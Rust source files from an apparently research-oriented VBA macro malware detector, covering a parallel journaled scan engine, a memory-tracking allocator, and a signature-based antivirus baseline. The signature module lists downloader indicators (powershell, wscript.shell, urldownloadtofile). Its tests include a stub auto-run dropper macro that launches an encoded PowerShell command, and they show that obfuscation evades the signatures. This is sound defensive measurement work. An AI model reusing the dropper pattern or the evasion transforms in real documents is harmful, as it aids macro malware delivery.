    scan_paths_journaled(detector, paths, &policy, None, None)
}

/// Single-writer funnel for journal checkpoints. The first write error
/// stops journaling — the scan itself must run to completion on a full
/// disk — and is surfaced exactly once as [`ScanReport::journal_error`].
/// Shared with [`crate::serve`], which funnels its per-request audit
/// records through one of these behind a mutex.
pub(crate) struct JournalSink<'a> {
    journal: Option<&'a mut ScanJournal>,
    pub(crate) error: Option<String>,
    metrics: MetricsSink,
}

impl<'a> JournalSink<'a> {
    pub(crate) fn new(journal: Option<&'a mut ScanJournal>, metrics: MetricsSink) -> Self {
        JournalSink {
            journal,
            error: None,
            metrics,
        }
    }

    fn record(
        &mut self,
        counter: Counter,
        op: impl FnOnce(&mut ScanJournal) -> std::io::Result<()>,
    ) {
        if self.error.is_some() {
            return;
        }
        let Some(j) = self.journal.as_deref_mut() else {
            return;
        };
        let _t = self.metrics.time(Stage::JournalWriteNs);
        let before = j.bytes_written();
        if let Err(e) = op(j) {
            self.error = Some(e.to_string());
        }
        self.metrics.count(counter, 1);
        self.metrics.count(
            Counter::JournalBytes,
            j.bytes_written().saturating_sub(before),
        );
    }

    fn begin(&mut self, key: &str) {
        self.record(Counter::JournalBeginRecords, |j| j.begin(key));
    }

    fn done(&mut self, record: &ScanRecord) {
        self.record(Counter::JournalDoneRecords, |j| j.done(record));
    }

    pub(crate) fn sync(&mut self) {
        self.record(Counter::JournalSyncs, |j| j.sync());
    }

    /// Checkpoints one decided record: `begin` + `done` for a fresh scan,
    /// `done` alone for an outcome copied from a resume replay (mirroring
    /// the sequential engine's journal layout byte for byte).
    pub(crate) fn checkpoint(&mut self, record: &ScanRecord, resumed: bool) {
        let key = record.path.display().to_string();
        if !resumed {
            self.begin(&key);
        }
        self.done(record);
    }
}

/// The full-featured batch entry point: policy-driven scanning with
/// optional crash-safe checkpointing and resume.
///
/// When `journal` is given, every document is bracketed by a `begin`
/// record before parsing and a `done` record (with its full outcome)
/// after, each flushed immediately; a scan killed mid-batch leaves a
/// journal from which [`replay_journal`](crate::journal::replay_journal)
/// recovers everything already decided. When `resume` is given, paths the
/// replay says are complete are *not* rescanned — their recorded outcomes
/// are copied into the report (and re-checkpointed into the new journal,
/// so it is self-contained) — while paths that were mid-scan at the crash
/// are re-attempted.
///
/// A journal write failure never aborts the batch: journaling stops, the
/// scan continues, and the error is surfaced in
/// [`ScanReport::journal_error`].
pub fn scan_paths_journaled<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    policy: &ScanPolicy,
    journal: Option<&mut ScanJournal>,
    resume: Option<&JournalReplay>,
) -> ScanReport {
    if let Some(config) = policy.isolate.clone() {
        let paths: Vec<PathBuf> = paths.iter().map(|p| p.as_ref().to_path_buf()).collect();
        return isolate::scan_paths_isolated(detector, &paths, policy, &config, journal, resume);
    }
    let jobs = policy.jobs.max(1).min(paths.len().max(1));
    if jobs > 1 {
        return scan_paths_parallel_impl(detector, paths, policy, jobs, journal, resume);
    }
    let _quiet = quiet::QuietPanicGuard::new();
    let bound = cache::BoundCache::bind(detector, policy);
    let mut sink = JournalSink::new(journal, policy.metrics.clone());
    let mut records = Vec::new();
    let mut interrupted = false;
    for p in paths {
        if policy.drain_now() {
            interrupted = true;
            break;
        }
        faultpoint!("scan::between-docs");
        let path = p.as_ref().to_path_buf();
        let key = path.display().to_string();
        if let Some(outcome) = resume.and_then(|r| r.outcome_for(&key)) {
            let record = ScanRecord {
                path,
                outcome: outcome.clone(),
            };
            sink.checkpoint(&record, true);
            record_outcome(&policy.metrics, &record.outcome);
            records.push(record);
            continue;
        }
        sink.begin(&key);
        let record = ScanRecord {
            outcome: scan_file(detector, &path, policy, bound.as_ref()),
            path,
        };
        sink.done(&record);
        record_outcome(&policy.metrics, &record.outcome);
        records.push(record);
    }
    sink.sync();
    ScanReport {
        records,
        journal_error: sink.error,
        metrics: policy.metrics.snapshot(),
        interrupted,
    }
}

/// The parallel batch engine behind [`ScanPolicy::jobs`].
///
/// Topology: an atomic cursor over the input list hands out chunks of
/// indices to `jobs` worker threads; each worker scans its documents —
/// minting the per-document [`Budget`] locally and containing panics with
/// its own `catch_unwind` under its own quiet-hook guard — and sends
/// `(index, record)` through a bounded channel to the collector (the
/// calling thread). The collector holds early completions back in a
/// reorder buffer and emits records strictly in input order, so:
///
/// - the final [`ScanReport`] is identical to the sequential engine's,
///   whatever order workers finish in;
/// - the journal has exactly one writer, lines are never interleaved, and
///   a journal from a parallel run is byte-identical to a sequential one.
fn scan_paths_parallel_impl<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    policy: &ScanPolicy,
    jobs: usize,
    journal: Option<&mut ScanJournal>,
    resume: Option<&JournalReplay>,
) -> ScanReport {
    let _quiet = quiet::QuietPanicGuard::new();
    let bound = cache::BoundCache::bind(detector, policy);
    let paths: Vec<PathBuf> = paths.iter().map(|p| p.as_ref().to_path_buf()).collect();
    let total = paths.len();
    // Chunked claims amortize cursor traffic; small chunks keep the tail
    // balanced when one document is much slower than its neighbours.
    let chunk = (total / (jobs * 8)).clamp(1, 16);
    let cursor = AtomicUsize::new(0);
    let mut sink = JournalSink::new(journal, policy.metrics.clone());
    let mut slots: Vec<Option<ScanRecord>> = vec![None; total];
    let mut interrupted = false;

    thread::scope(|scope| {
        // Bounded: workers stall rather than pile unbounded completions
        // onto a collector that is slower than the scan (e.g. fsyncing a
        // journal on a loaded disk). Dropping the receiver unblocks them.
        let (tx, rx) = mpsc::sync_channel::<(usize, ScanRecord)>(jobs * 2);
        for _ in 0..jobs {
            let tx = tx.clone();
            let cursor = &cursor;
            let paths = &paths;
            let bound = bound.as_ref();
            scope.spawn(move || {
                let _quiet = quiet::QuietPanicGuard::new();
                let mut docs_scanned = 0u64;
                'claims: loop {
                    let start = cursor.fetch_add(chunk, Ordering::Relaxed);
                    if start >= total {
                        break;
                    }
                    let end = (start + chunk).min(total);
                    for (idx, claimed) in paths[start..end].iter().enumerate() {
                        let idx = start + idx;
                        let path = claimed.clone();
                        let key = path.display().to_string();
                        let outcome =
                            match resume.and_then(|r| r.outcome_for(&key)) {
                                Some(outcome) => outcome.clone(),
                                // Belt over suspenders: scan_file contains
                                // panics internally, but a worker must outlive
                                // even a containment bug in that stack.
                                None => catch_unwind(AssertUnwindSafe(|| {
                                    scan_file(detector, &path, policy, bound)
                                }))
                                .unwrap_or_else(|payload| ScanOutcome::Failed {
                                    class: FailureClass::Panic,
                                    detail: panic_detail(payload),
                                }),
                            };
                        docs_scanned += 1;
                        let sent = {
                            let _wait = policy.metrics.time(Stage::PoolSendWaitNs);
                            tx.send((idx, ScanRecord { path, outcome }))
                        };
                        if sent.is_err() {
                            // Collector is gone (it panicked and its
                            // receiver dropped); abandon remaining work so
                            // the scope can unwind instead of deadlocking.
                            break 'claims;
                        }
                    }
                }
                policy.metrics.record(Stage::PoolWorkerDocs, docs_scanned);
            });
        }
        drop(tx);

        // The collector: single consumer, single journal writer. Early
        // finishers wait in the reorder buffer until every lower index
        // has been emitted.
        let mut pending: BTreeMap<usize, ScanRecord> = BTreeMap::new();
        let mut next = 0usize;
        'collect: for (idx, record) in rx {
            pending.insert(idx, record);
            policy
                .metrics
                .record(Stage::PoolReorderDepth, pending.len() as u64);
            while pending.contains_key(&next) {
                // Dropping `rx` on a drain unblocks every worker stalled
                // on the bounded channel: their next send errors and they
                // abandon their claims. Whatever sits in the reorder
                // buffer past `next` was decided but never journaled —
                // a resume simply rescans it.
                if policy.drain_now() {
                    interrupted = true;
                    break 'collect;
                }
                let record = pending.remove(&next).expect("checked key");
                faultpoint!("scan::between-docs");
                let key = record.path.display().to_string();
                let resumed = resume.and_then(|r| r.outcome_for(&key)).is_some();
                sink.checkpoint(&record, resumed);
                record_outcome(&policy.metrics, &record.outcome);
                slots[next] = Some(record);
                next += 1;
            }
        }
    });
    sink.sync();
    debug_assert!(
        interrupted || slots.iter().all(Option::is_some),
        "parallel scan lost a record"
    );
    let records = slots.into_iter().flatten().collect();
    ScanReport {
        records,
        journal_error: sink.error,
        metrics: policy.metrics.snapshot(),
        interrupted,
    }
}

/// Reads one document's bytes under the file-size cap: `stat` first so an
/// oversized input is rejected as [`FailureClass::LimitExceeded`] without
/// its bytes ever being read into memory, then read, re-checking the size
/// (which may have changed under a racing writer) on what was actually
/// read. `Err` carries the typed outcome for the batch record.
///
/// This is the *single* read in the per-document path — the cache digests
/// the returned buffer rather than re-reading, so caching adds zero I/O.
/// Crucially the grew-during-read check runs *before* any caller digests
/// the bytes: an over-cap buffer is rejected here and can never be
/// cached, looked up, or scanned.
pub(crate) fn read_file_checked(path: &Path, max_file_size: u64) -> Result<Vec<u8>, ScanOutcome> {
    let size = match std::fs::metadata(path) {
        Ok(meta) => meta.len(),
        Err(e) => {
            return Err(ScanOutcome::Failed {
                class: FailureClass::Io,
                detail: e.to_string(),
            })
        }
    };
    if size > max_file_size {
        return Err(ScanOutcome::Failed {
            class: FailureClass::LimitExceeded,
            detail: format!("file is {size} bytes, over the {max_file_size}-byte cap"),
        });
    }
    faultpoint!("scan::stat-read-gap");
    match std::fs::read(path) {
        Ok(bytes) => {
            // A file can grow between the stat and the read (log rotation,
            // an attacker racing the scanner): enforce the cap on what was
            // actually read, not on what the stat promised.
            if bytes.len() as u64 > max_file_size {
                return Err(ScanOutcome::Failed {
                    class: FailureClass::LimitExceeded,
                    detail: format!(
                        "file grew to {} bytes during read, over the {max_file_size}-byte cap",
                        bytes.len(),
                    ),
                });
            }
            Ok(bytes)
        }
        Err(e) => Err(ScanOutcome::Failed {
            class: FailureClass::Io,
            detail: e.to_string(),
        }),
    }
}

/// Scans one on-disk file: checked read, then scan — through the bound
/// cache when the batch carries one.
pub(crate) fn scan_file(
    detector: &Detector,
    path: &Path,
    policy: &ScanPolicy,
    bound: Option<&cache::BoundCache>,
) -> ScanOutcome {
    match read_file_checked(path, policy.limits.max_file_size) {
        Ok(bytes) => scan_bytes_cached(detector, &bytes, policy, bound),
        Err(outcome) => outcome,
    }
}

/// Scans in-memory bytes through a bound cache: digest, look up, and on a
/// miss scan under a *fresh* metrics sink whose non-zero counter totals
/// become the entry's replayable deltas. Both paths then feed the same
/// deltas into the live sink, which is what keeps the deterministic
/// counter section identical across cache-off, cold and warm runs. With
/// no cache bound this is exactly [`scan_bytes_with_policy`].
pub(crate) fn scan_bytes_cached(
    detector: &Detector,
    bytes: &[u8],
    policy: &ScanPolicy,
    bound: Option<&cache::BoundCache>,
) -> ScanOutcome {
    let Some(bound) = bound else {
        return scan_bytes_with_policy(detector, bytes, policy);
    };
    scan_bytes_cached_deltas(detector, bytes, policy, bound).0
}

/// [`scan_bytes_cached`] with the document's counter deltas handed back —
/// the resident service's single-flight needs them so in-flight duplicate
/// requests can replay the leader's contribution without a cache entry
/// (uncacheable outcomes are still shared via the flight).
pub(crate) fn scan_bytes_cached_deltas(
    detector: &Detector,
    bytes: &[u8],
    policy: &ScanPolicy,
    bound: &cache::BoundCache,
) -> (ScanOutcome, cache::Deltas) {
    scan_bytes_cached_digest(detector, bytes, policy, bound, cache::sha256(bytes))
}

/// [`scan_bytes_cached_deltas`] for callers that already digested the
/// bytes (the service digests during request resolution).
pub(crate) fn scan_bytes_cached_digest(
    detector: &Detector,
    bytes: &[u8],
    policy: &ScanPolicy,
    bound: &cache::BoundCache,
    digest: cache::ContentDigest,
) -> (ScanOutcome, cache::Deltas) {
    if let Some((outcome, deltas)) = bound.lookup(digest, &policy.metrics) {
        cache::replay_deltas(&policy.metrics, &deltas);
        return (outcome, deltas);
    }
    // Miss: scan under a fresh sink so this one document's counter
    // contribution is separable. Its histograms are dropped — they are
    // exempt from the determinism promise, exactly as for the isolation
    // supervisor's workers.
    let fresh = MetricsSink::enabled();
    let sub = ScanPolicy {
        metrics: fresh.clone(),
        cache: None,
        ..policy.clone()
    };
    let outcome = scan_bytes_with_policy(detector, bytes, &sub);
    let deltas = cache::deltas_from_sink(&fresh);
    cache::replay_deltas(&policy.metrics, &deltas);
    bound.insert(digest, &outcome, &deltas, &policy.metrics);
    (outcome, deltas)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::DetectorConfig;
    use vbadet_corpus::CorpusSpec;
    use vbadet_ovba::VbaProjectBuilder;

    fn detector() -> Detector {
        Detector::train_on_corpus(
            &DetectorConfig::default(),
            &CorpusSpec::paper().scaled(0.05),
        )
    }

    fn doc_with_macro() -> Vec<u8> {
        let mut b = VbaProjectBuilder::new("P");
        b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
        b.build().unwrap()
    }

    #[test]
    fn batch_mixes_outcomes_without_aborting() {
        let det = detector();
        let with_macro = doc_with_macro();
        let mut clean_ole = vbadet_ole::OleBuilder::new();
        clean_ole
            .add_stream("WordDocument", b"no macros here")
            .unwrap();
        let clean = clean_ole.build();
        let docs: Vec<(&str, &[u8])> = vec![
            ("a.bin", &with_macro[..]),
            ("b.doc", &clean[..]),
            ("c.txt", b"not a document at all"),
            ("d.doc", &with_macro[..7]),
        ];
        let report = scan_documents(&det, docs, &ScanLimits::default());
        assert_eq!(report.scanned(), 4);
        assert!(matches!(report.records[0].outcome, ScanOutcome::Macros(_)));
        assert!(matches!(report.records[1].outcome, ScanOutcome::Clean));
        assert_eq!(report.failed(), 2);
        assert_eq!(report.failed_with(FailureClass::UnknownContainer), 2);
    }

    #[test]
    fn missing_file_is_an_io_failure_not_an_abort() {
        let det = detector();
        let report = scan_paths(
            &det,
            &["/nonexistent/definitely-not-here.doc"],
            &ScanLimits::default(),
        );
        assert_eq!(report.scanned(), 1);
        assert_eq!(report.failed_with(FailureClass::Io), 1);
    }

    #[test]
    fn oversized_file_is_rejected_by_stat_before_read() {
        let det = detector();
        let dir = std::env::temp_dir();
        let path = dir.join(format!("vbadet-oversize-{}.bin", std::process::id()));
        std::fs::write(&path, vec![0u8; 4096]).unwrap();
        let mut policy = ScanPolicy::default();
        policy.limits.max_file_size = 1024;
        let report = scan_paths_with_policy(&det, &[&path], &policy);
        std::fs::remove_file(&path).ok();
        assert_eq!(report.failed_with(FailureClass::LimitExceeded), 1);
        match &report.records[0].outcome {
            ScanOutcome::Failed { detail, .. } => {
                assert!(
                    detail.contains("4096"),
                    "detail should carry the size: {detail}"
                )
            }
            other => panic!("expected failure, got {other:?}"),
        }
    }

    #[test]
    fn exhausted_fuel_reports_timeout() {
        let det = detector();
        let doc = doc_with_macro();
        let policy = ScanPolicy::default().fuel(1);
        let outcome = scan_bytes_with_policy(&det, &doc, &policy);
        assert!(
            matches!(
                outcome,
                ScanOutcome::Failed {
                    class: FailureClass::Timeout,
                    ..
                }
            ),
            "expected timeout, got {outcome:?}"
        );
    }

    #[test]
    fn ladder_does_not_retry_budget_trips() {
        // The budget is shared across rungs, so a tripped document must be
        // reported as a single Timeout failure, not re-parsed twice more.
        let det = detector();
        let doc = doc_with_macro();
        let policy = ScanPolicy::default().fuel(1).with_ladder();
        let outcome = scan_bytes_with_policy(&det, &doc, &policy);
        assert!(matches!(
            outcome,
            ScanOutcome::Failed {
                class: FailureClass::Timeout,
                ..
            }
        ));
    }

    #[test]
    fn ladder_salvages_wreckage_the_parsers_reject() {
        // Bytes that sniff as a ZIP but have no central directory at all,
        // with an intact compressed VBA container buried inside: the full
        // and strict rungs both fail structurally, the salvage rung
        // recovers the module.
        let det = detector();
        let mut doc = b"PK\x03\x04 this is not really an archive ".to_vec();
        doc.extend_from_slice(&vbadet_ovba::compress(
            b"Attribute VB_Name = \"M\"\r\nSub Work()\r\n    x = 1\r\nEnd Sub\r\n",
        ));
        let plain = scan_bytes(&det, &doc, &ScanLimits::default());
        assert!(matches!(plain, ScanOutcome::Failed { .. }));
        let outcome = scan_bytes_with_policy(&det, &doc, &ScanPolicy::default().with_ladder());
        match outcome {
            ScanOutcome::Recovered {
                rung: LadderRung::Salvage,
                verdicts,
            } => {
                assert_eq!(verdicts.len(), 1);
            }
            other => panic!("expected salvage recovery, got {other:?}"),
        }
    }

    #[test]
    fn panics_are_contained_per_document() {
        // No known panicking input exists (that's the point of the fuzz
        // harness), so exercise the containment path directly.
        let outcome = catch_unwind(AssertUnwindSafe(|| -> ScanOutcome {
            panic!("synthetic parser bug");
        }))
        .err()
        .map(|payload| {
            let detail = panic_detail(payload);
            ScanOutcome::Failed {
                class: FailureClass::Panic,
                detail,
            }
        })
        .unwrap();
        assert!(matches!(
            outcome,
            ScanOutcome::Failed { class: FailureClass::Panic, ref detail }
                if detail == "synthetic parser bug"
        ));
    }

    #[test]
    fn quiet_guard_restores_suppression_state() {
        // Nested guards must not clobber each other's restore values.
        let _outer = quiet::QuietPanicGuard::new();
        {
            let _inner = quiet::QuietPanicGuard::new();
        }
        // Still suppressed under the outer guard: a contained panic here
        // must not reach the previous hook. (Observable only as the lack
        // of stderr noise; the assertion is that this does not unwind.)
        let _ = catch_unwind(|| panic!("suppressed"));
    }

    #[test]
    fn parallel_engine_matches_sequential_on_a_mixed_batch() {
        let det = detector();
        let dir = std::env::temp_dir().join(format!("vbadet-scan-par-unit-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let with_macro = doc_with_macro();
        let mut clean_ole = vbadet_ole::OleBuilder::new();
        clean_ole
            .add_stream("WordDocument", b"no macros here")
            .unwrap();
        let clean = clean_ole.build();
        let contents: Vec<(&str, &[u8])> = vec![
            ("a.bin", &with_macro[..]),
            ("b.doc", &clean[..]),
            ("c.txt", b"not a document at all"),
            ("d.doc", &with_macro[..7]),
            ("e.bin", &with_macro[..]),
        ];
        let paths: Vec<PathBuf> = contents
            .iter()
            .map(|(name, bytes)| {
                let p = dir.join(name);
                std::fs::write(&p, bytes).unwrap();
                p
            })
            .collect();
        let sequential = scan_paths(&det, &paths, &ScanLimits::default());
        for jobs in [2, 3, 8] {
            let parallel = scan_paths_parallel(&det, &paths, &ScanPolicy::default(), jobs);
            assert_eq!(parallel.records, sequential.records, "jobs={jobs}");
            assert_eq!(parallel.journal_error, None);
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn jobs_zero_and_one_route_through_the_sequential_engine() {
        // Both select the in-thread path; observable only as identical
        // behavior on the degenerate inputs (no threads to deadlock on an
        // empty batch, one record for one path).
        let det = detector();
        for jobs in [0, 1, 4] {
            let report = scan_paths_parallel::<&str>(&det, &[], &ScanPolicy::default(), jobs);
            assert_eq!(report.scanned(), 0);
        }
        let report =
            scan_paths_parallel(&det, &["/nonexistent/nope.doc"], &ScanPolicy::default(), 8);
        assert_eq!(report.failed_with(FailureClass::Io), 1);
    }

    #[test]
    fn failure_labels_are_stable() {
        assert_eq!(FailureClass::CyclicChain.label(), "cyclic-chain");
        assert_eq!(FailureClass::LimitExceeded.label(), "limit-exceeded");
        assert_eq!(FailureClass::Panic.label(), "panic");
        assert_eq!(FailureClass::Timeout.label(), "timeout");
    }

    #[test]
    fn labels_round_trip() {
        for class in [
            FailureClass::CyclicChain,
            FailureClass::LimitExceeded,
            FailureClass::Truncated,
            FailureClass::Malformed,
            FailureClass::UnknownContainer,
            FailureClass::NoVbaPart,
            FailureClass::Io,
            FailureClass::Panic,
            FailureClass::Timeout,
            FailureClass::Fatal,
        ] {
            assert_eq!(FailureClass::from_label(class.label()), Some(class));
        }
        for rung in [LadderRung::Full, LadderRung::Strict, LadderRung::Salvage] {
            assert_eq!(LadderRung::from_label(rung.label()), Some(rung));
        }
        assert_eq!(FailureClass::from_label("bogus"), None);
        assert_eq!(LadderRung::from_label("bogus"), None);
    }
}
