//! Live-heap accounting for the per-document memory ceiling.
//!
//! Worker processes under the [`scan::isolate`](crate::scan::isolate)
//! supervisor install [`TrackingAllocator`] as their `#[global_allocator]`;
//! it forwards every call to [`System`] and keeps a process-wide count of
//! live heap bytes. [`live_bytes`] is the probe the scan
//! [`Budget`](vbadet_faultpoint::Budget) polls: the budget captures a
//! baseline at document start, and a document whose allocations exceed
//! `--max-scan-mem-mb` over that baseline trips as a typed
//! `BudgetExceeded::Memory` — surfacing as a `limit-exceeded` record —
//! long before the kernel's OOM killer would have SIGKILLed the worker.
//!
//! In a process that has *not* installed the allocator the counter stays
//! at zero, so the probe is always safe to wire up: the ceiling simply
//! never trips.
//!
//! The accounting is deliberately simple — a pair of relaxed atomic
//! updates per allocation, no size-class bucketing, `realloc` counted as
//! the delta — because the ceiling is a blast-radius bound, not a
//! profiler: being off by an allocator header here or there is irrelevant
//! against caps measured in megabytes.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

static LIVE: AtomicU64 = AtomicU64::new(0);
static ALLOCS: AtomicU64 = AtomicU64::new(0);
static ALLOC_BYTES: AtomicU64 = AtomicU64::new(0);

/// Heap bytes currently live in this process, or zero when
/// [`TrackingAllocator`] is not installed as the global allocator.
pub fn live_bytes() -> u64 {
    LIVE.load(Ordering::Relaxed)
}

/// Cumulative `(allocation count, allocated bytes)` since process start
/// (deallocations never decrease it), or `(0, 0)` when
/// [`TrackingAllocator`] is not installed. The scan engine snapshots this
/// around each document to report `alloc.count_per_doc` /
/// `alloc.bytes_per_doc` histograms. `realloc` growth counts as one
/// allocation of the delta; shrinks are free.
pub fn cumulative_allocs() -> (u64, u64) {
    (
        ALLOCS.load(Ordering::Relaxed),
        ALLOC_BYTES.load(Ordering::Relaxed),
    )
}

/// A pass-through global allocator that counts live bytes.
///
/// Install in a binary with:
///
/// ```ignore
/// #[global_allocator]
/// static ALLOC: vbadet::memguard::TrackingAllocator =
///     vbadet::memguard::TrackingAllocator;
/// ```
pub struct TrackingAllocator;

// SAFETY: every method forwards verbatim to `System`; the only additions
// are relaxed atomic counter updates, which allocate nothing and cannot
// unwind.
unsafe impl GlobalAlloc for TrackingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        let p = System.alloc(layout);
        if !p.is_null() {
            LIVE.fetch_add(layout.size() as u64, Ordering::Relaxed);
            ALLOCS.fetch_add(1, Ordering::Relaxed);
            ALLOC_BYTES.fetch_add(layout.size() as u64, Ordering::Relaxed);
        }
        p
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        let p = System.alloc_zeroed(layout);
        if !p.is_null() {
            LIVE.fetch_add(layout.size() as u64, Ordering::Relaxed);
            ALLOCS.fetch_add(1, Ordering::Relaxed);
            ALLOC_BYTES.fetch_add(layout.size() as u64, Ordering::Relaxed);
        }
        p
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout);
        LIVE.fetch_sub(layout.size() as u64, Ordering::Relaxed);
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        let p = System.realloc(ptr, layout, new_size);
        if !p.is_null() {
            let old = layout.size() as u64;
            let new = new_size as u64;
            if new >= old {
                LIVE.fetch_add(new - old, Ordering::Relaxed);
                ALLOCS.fetch_add(1, Ordering::Relaxed);
                ALLOC_BYTES.fetch_add(new - old, Ordering::Relaxed);
            } else {
                LIVE.fetch_sub(old - new, Ordering::Relaxed);
            }
        }
        p
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn probe_reads_zero_without_the_allocator_installed() {
        // The test binary does not install TrackingAllocator, so nothing
        // ever touches the counter.
        assert_eq!(live_bytes(), 0);
    }

    #[test]
    fn counter_tracks_a_manual_alloc_dealloc_cycle() {
        // Drive the allocator directly rather than installing it. One
        // test owns all counter traffic, so the deltas are exact.
        let a = TrackingAllocator;
        let layout = Layout::from_size_align(4096, 8).unwrap();
        let before = live_bytes();
        let (count_before, bytes_before) = cumulative_allocs();
        let p = unsafe { a.alloc(layout) };
        assert!(!p.is_null());
        assert_eq!(live_bytes() - before, 4096);
        let p = unsafe { a.realloc(p, layout, 8192) };
        assert!(!p.is_null());
        assert_eq!(live_bytes() - before, 8192);
        let layout = Layout::from_size_align(8192, 8).unwrap();
        unsafe { a.dealloc(p, layout) };
        assert_eq!(live_bytes(), before);
        // Cumulative counters never shrink: alloc (4096) + realloc growth
        // (4096) = 2 allocations, 8192 bytes; the dealloc changed nothing.
        let (count_after, bytes_after) = cumulative_allocs();
        assert_eq!(count_after - count_before, 2);
        assert_eq!(bytes_after - bytes_before, 8192);
    }
}
