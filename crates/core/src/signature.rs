//! A toy signature-based "anti-virus" baseline.
//!
//! §III.B's premise — the reason obfuscation exists — is that signature
//! matching on IOC strings breaks under O2/O3 while the macro's behaviour
//! is unchanged. This scanner makes that claim executable: it flags macros
//! whose *raw text* contains known-bad substrings, exactly like a
//! signature-based AV. `signature_experiment` then measures its recall on
//! plain vs obfuscated payloads, reproducing the motivation table.

/// Default signature set: the IOC substrings of the corpus's downloader
/// families (lowercase; matching is case-insensitive).
pub const DEFAULT_SIGNATURES: [&str; 10] = [
    "urldownloadtofile",
    "wscript.shell",
    "msxml2.xmlhttp",
    "adodb.stream",
    "savetofile",
    "powershell",
    "cmd /c",
    ".exe",
    "http://",
    "-enc ",
];

/// A signature-based scanner over raw macro text.
#[derive(Debug, Clone)]
pub struct SignatureScanner {
    signatures: Vec<String>,
}

impl SignatureScanner {
    /// Scanner with the default IOC signature set.
    pub fn new() -> Self {
        Self::with_signatures(DEFAULT_SIGNATURES.iter().map(|s| s.to_string()))
    }

    /// Scanner with a custom signature set (lowercased internally).
    pub fn with_signatures<I: IntoIterator<Item = String>>(signatures: I) -> Self {
        SignatureScanner {
            signatures: signatures
                .into_iter()
                .map(|s| s.to_ascii_lowercase())
                .collect(),
        }
    }

    /// The signatures that match `source` (case-insensitive substring).
    pub fn matches<'a>(&'a self, source: &str) -> Vec<&'a str> {
        let lower = source.to_ascii_lowercase();
        self.signatures
            .iter()
            .filter(|sig| lower.contains(sig.as_str()))
            .map(String::as_str)
            .collect()
    }

    /// Whether any signature matches.
    pub fn flags(&self, source: &str) -> bool {
        !self.matches(source).is_empty()
    }
}

impl Default for SignatureScanner {
    fn default() -> Self {
        Self::new()
    }
}

/// Detection rates of the signature baseline per obfuscation state:
/// `(plain_rate, obfuscated_rate)` over the malicious population.
pub fn signature_experiment(macros: &[vbadet_corpus::MacroSample]) -> (f64, f64) {
    let scanner = SignatureScanner::new();
    let mut plain = (0usize, 0usize);
    let mut obfuscated = (0usize, 0usize);
    for m in macros.iter().filter(|m| m.malicious) {
        let bucket = if m.obfuscated {
            &mut obfuscated
        } else {
            &mut plain
        };
        bucket.1 += 1;
        if scanner.flags(&m.source) {
            bucket.0 += 1;
        }
    }
    let rate = |(hit, total): (usize, usize)| {
        if total == 0 {
            0.0
        } else {
            hit as f64 / total as f64
        }
    };
    (rate(plain), rate(obfuscated))
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use vbadet_obfuscate::{Obfuscator, Technique};

    const DROPPER: &str = "Sub AutoOpen()\r\n\
        Set sh = CreateObject(\"WScript.Shell\")\r\n\
        sh.Run \"powershell -enc QQBB\", 0, False\r\n\
        End Sub\r\n";

    #[test]
    fn plain_dropper_is_flagged() {
        let scanner = SignatureScanner::new();
        let hits = scanner.matches(DROPPER);
        assert!(hits.contains(&"wscript.shell"));
        assert!(hits.contains(&"powershell"));
        assert!(scanner.flags(DROPPER));
    }

    #[test]
    fn benign_text_is_not_flagged() {
        let scanner = SignatureScanner::new();
        assert!(!scanner.flags("Sub A()\r\n    total = total + 1\r\nEnd Sub\r\n"));
    }

    #[test]
    fn split_and_encoding_evade_signatures() {
        // The paper's §III.B claim, executed: the same macro stops matching
        // after O2/O3, for (almost) any seed.
        let scanner = SignatureScanner::new();
        let mut evaded = 0usize;
        const TRIALS: u64 = 20;
        for seed in 0..TRIALS {
            let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
            let out = Obfuscator::new()
                .with(Technique::Split)
                .with(Technique::Encoding)
                .apply(DROPPER, &mut rng)
                .source;
            if !scanner.flags(&out) {
                evaded += 1;
            }
        }
        assert!(
            evaded as f64 / TRIALS as f64 > 0.7,
            "string transforms must break signatures: {evaded}/{TRIALS}"
        );
    }

    #[test]
    fn rename_alone_does_not_evade() {
        // O1 leaves strings intact: signatures still hit.
        let scanner = SignatureScanner::new();
        let mut rng = rand::rngs::StdRng::seed_from_u64(3);
        let out = Obfuscator::new()
            .with(Technique::Random)
            .apply(DROPPER, &mut rng)
            .source;
        assert!(scanner.flags(&out));
    }

    #[test]
    fn corpus_level_rates_reproduce_the_motivation() {
        use vbadet_corpus::ObfuscationProfile;
        let spec = vbadet_corpus::CorpusSpec::paper().scaled(0.1);
        let macros = vbadet_corpus::generate_macros(&spec);
        let (plain_rate, obfuscated_rate) = signature_experiment(&macros);
        assert!(
            plain_rate > 0.95,
            "plain droppers all match signatures: {plain_rate}"
        );
        // The aggregate rate drops, but partially obfuscated profiles
        // (rename-only, logic-only, split pieces that keep ".exe") still
        // match something, so the aggregate claim is weak. The sharp §III.B
        // claim is about string *encoding*: macros whose strings were fully
        // encoded must evade at a much higher rate than plain ones.
        assert!(
            obfuscated_rate <= plain_rate,
            "{obfuscated_rate} vs {plain_rate}"
        );
        let scanner = SignatureScanner::new();
        let encoded: Vec<_> = macros
            .iter()
            .filter(|m| m.malicious && m.profile == ObfuscationProfile::LightEncoding)
            .collect();
        assert!(!encoded.is_empty());
        let hit = encoded.iter().filter(|m| scanner.flags(&m.source)).count();
        let encoded_rate = hit as f64 / encoded.len() as f64;
        assert!(
            encoded_rate < 0.5,
            "string-encoded payloads must mostly evade signatures: {encoded_rate}"
        );
    }
}
