//! Macro extraction from document bytes (the olevba-equivalent step of
//! §IV.B): container sniffing, OOXML unwrapping, OLE walking, MS-OVBA
//! decompression.

use crate::limits::ScanLimits;
use crate::DetectError;
use vbadet_faultpoint::Budget;
use vbadet_metrics::{Counter, Stage};
use vbadet_ole::OleFile;
use vbadet_ovba::{
